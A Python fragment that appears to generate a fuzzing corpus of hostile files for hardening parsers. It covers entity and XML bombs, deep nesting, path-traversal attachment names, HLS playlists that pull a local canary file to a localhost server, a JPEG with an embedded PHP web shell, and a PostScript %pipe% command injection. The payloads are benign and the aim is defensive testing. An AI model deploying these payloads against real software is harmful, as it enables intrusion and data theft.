    yield "entities.html", b"<html>" + b"&lt" * 500_000 + b"&#99999999999;&#xD800;"
    yield "charset.html", b'<html><meta charset="' + b"A" * 5000 + b'"><meta charset="rot13">\xff\xfe</html>'
    yield "deep.eml", mail("".join(f'--b{i}\r\nContent-Type: multipart/mixed; boundary="b{i + 1}"\r\n\r\n' for i in range(3_000)),
                           'Content-Type: multipart/mixed; boundary="b0"\r\n')
    yield "nested.eml", mail("Content-Type: message/rfc822\r\n\r\n" * 3_000, "Content-Type: message/rfc822\r\n")
    yield "headers.eml", mail(headers="X-A: b\r\n" * 200_000)
    yield "long-header.eml", mail(headers="To: " + "a@example.org, " * 200_000 + "\r\n")
    yield "charset.eml", mail("\xff\xfe\x00", 'Content-Type: text/plain; charset="no-such-charset"\r\nContent-Transfer-Encoding: base64\r\n')
    yield "encoded-words.eml", mail(headers="Subject: " + "=?utf-8?q?=ff=fe?= " * 20_000 + "\r\n")
    yield "names.eml", mail('--x\r\nContent-Disposition: attachment; filename="../../../../tmp/evil"\r\n\r\nevil\r\n--x--\r\n', 'Content-Type: multipart/mixed; boundary="x"\r\n')
    yield "many.mbox", (b"From a@example.org Mon Nov  3 10:00:00 2025\n" + mail()) * 25_000
    yield "deep.rtf", b"{\\rtf1" + b"{" * 500_000
    yield "objects.rtf", b"{\\rtf1{\\object\\objdata " + b"41" * 50_000 + b"}{\\field{\\*\\fldinst INCLUDEPICTURE \"" + home.encode() + b"\"}}\\bin2147483647 x}"
    yield "unicode.rtf", b"{\\rtf1\\uc99999 " + b"\\u-10000?" * 20_000 + b"\\ansicpg99999}"
    yield "long-line.txt", b"word " * 2_000_000
    yield "escapes.txt", b"\x1b[2J\x1b]0;title\x07" * 1000 + "\u202e\u0000\ufeff".encode()
    yield "odd.txt", b"caf\xe9 \xff\xfe\xfd" * 2000
    yield "utf16.txt", "words in sixteen bits\n".encode("utf-16-le") * 500
    yield "surrogates.txt", b"\xff\xfe" + b"\x00\xd8" * 4000
    yield "iso2022.txt", b"\x1b$B" + random.Random(14).randbytes(3000)
    yield "deep.json", b"[" * 1_000_000
    yield "laughs.xml", (laughs() + "<x>&l9;</x>").encode()
    yield "playlist.m3u8", f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile://{canary}\n#EXTINF:1,\n{home}\n#EXT-X-ENDLIST\n".encode()


def evil_films(canary, port):
    home = f"http://127.0.0.1:{port}/film"
    hls = f"#EXTM3U\n#EXTINF:1,\nconcat:{home}|file://{canary}\n#EXT-X-ENDLIST\n".encode()
    yield "playlist.mp4", box(b"ftyp", b"isom\0\0\2\0") + hls
    yield "playlist.avi", b"RIFF\xff\xff\0\0AVI " + hls
    yield "gab2.avi", b"RIFF" + struct.pack("<I", 2000) + b"AVI LIST" + b"GAB2\0" + hls + b"\0" * 900
    yield "reference.mov", box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", box(b"rdrf", b"\0\0\0\0url " + struct.pack(">I", len(home)) + home.encode()))))
    yield "deep.mp4", box(b"ftyp", b"isom\0\0\2\0") + box(b"moov", b"", 0x7fffffff) * 20_000
    yield "loop.mp4", box(b"ftyp", b"isom\0\0\2\0") + box(b"moov", b"\0" * 8, 8) * 50_000
    yield "table.mp4", mp4(box(b"trak", box(b"mdia", box(b"minf", box(b"stbl", box(b"stsz", b"\0" * 8 + b"\xff" * 4 + b"\0" * 8))))))
    yield "endless.wav", wav(0xffffffff)
    yield "zero-rate.wav", wav().replace(struct.pack("<II", 8000, 16000), b"\0" * 8)
    yield "noise.mkv", b"\x1a\x45\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xff\x42\x82\x88matroska" + random.Random(15).randbytes(5000)
    yield "noise.mp3", b"ID3\4\0\0\x7f\x7f\x7f\x7f" + random.Random(16).randbytes(5000)
    yield "noise.flac", b"fLaC" + random.Random(17).randbytes(5000)
    yield "noise.ogg", b"OggS\0\2" + random.Random(18).randbytes(5000)


def polyglots():
    files = sound_files()
    yield "pdf-and-zip", files["plain.pdf"] + files["plain.zip"]
    yield "gif-and-script", b"GIF89a/*" + gif()[6:] + b"*/=1;alert(1)"
    yield "png-and-zip", files["plain.png"] + files["plain.zip"]
    yield "jpeg-and-php", jpeg(segment=b"\xff\xfe\0\x20<?php system($_GET['c']); ?>  ")
    yield "html-and-pdf", b"<html><!--\n" + files["plain.pdf"] + b"--></html>"
    yield "late-pdf", b"x" * 900 + files["plain.pdf"]
    yield "tar-and-pdf", files["plain.tar"] + files["plain.pdf"]
    yield "mp4-and-zip", files["plain.mp4"] + files["plain.zip"]
    yield "postscript", b"%!PS-Adobe-3.0\n(%pipe%touch /tmp/evil) (w) file closefile\nshowpage\n"
    yield "shell", b"#!/bin/sh\ntouch /tmp/evil\n"
    yield "elf", b"\x7fELF\2\1\1" + b"\0" * 500
    yield "empty", b""
    yield "zero", b"\0"
    yield "zeros", b"\0" * 1_000_000
    yield "noise", random.Random(19).randbytes(100_000)
    yield "ones", b"\xff" * 100_000


def hostile_files(canary, port):
    yield from mutated()
    for kind, files in (("pdf", evil_pdfs(canary, port)), ("image", evil_images(canary, port)), ("archive", evil_archives()),
                        ("office", evil_office(canary, port)), ("text", evil_texts(canary, port)), ("film", evil_films(canary, port)),
                        ("polyglot", polyglots())):
        for name, data in files:
            yield f"{kind}-{name}", data
